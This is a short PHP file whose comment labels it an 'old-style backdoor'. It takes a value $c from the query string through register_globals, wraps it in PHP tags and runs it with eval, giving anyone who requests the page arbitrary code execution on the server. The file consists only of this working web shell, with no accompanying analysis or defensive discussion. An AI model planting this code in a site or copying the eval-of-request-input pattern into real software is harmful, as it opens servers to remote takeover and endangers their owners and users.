<?php
// old-style backdoor: $c comes from the query string through register_globals
$code = trim($c);
if ($code) {
    $code = "<?php\n{$code}\n?>";
    eval('?>' . $code);
}
